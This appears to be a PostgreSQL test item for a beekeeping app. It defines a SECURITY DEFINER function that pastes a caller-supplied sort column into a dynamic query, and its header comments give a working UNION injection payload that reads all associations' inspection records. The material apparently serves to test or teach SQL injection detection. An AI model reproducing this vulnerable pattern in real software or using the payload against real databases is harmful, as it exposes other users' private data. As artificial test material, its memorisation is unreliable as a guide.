-- The column to sort by goes into the query as it is, and an added UNION brings the rows of all associations.
-- about: list_inspections, inspections
-- as: hf_bees_app
-- exploit: SET bee.user_id = '11';
-- exploit: SELECT * FROM bee.list_inspections(
-- exploit:   'day) x UNION ALL SELECT * FROM (SELECT day, finding FROM bee.inspections');
-- shows: Road-secret mites
CREATE FUNCTION bee.list_inspections(p_sort text DEFAULT 'day') RETURNS TABLE (day date, finding text)
  LANGUAGE plpgsql STABLE SECURITY DEFINER
  SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  RETURN QUERY EXECUTE 'SELECT * FROM (SELECT day, finding FROM bee.inspections
    WHERE association_id = ANY ($1) ORDER BY ' || p_sort || ')' || ' y' USING bee.mine();
END
$$;
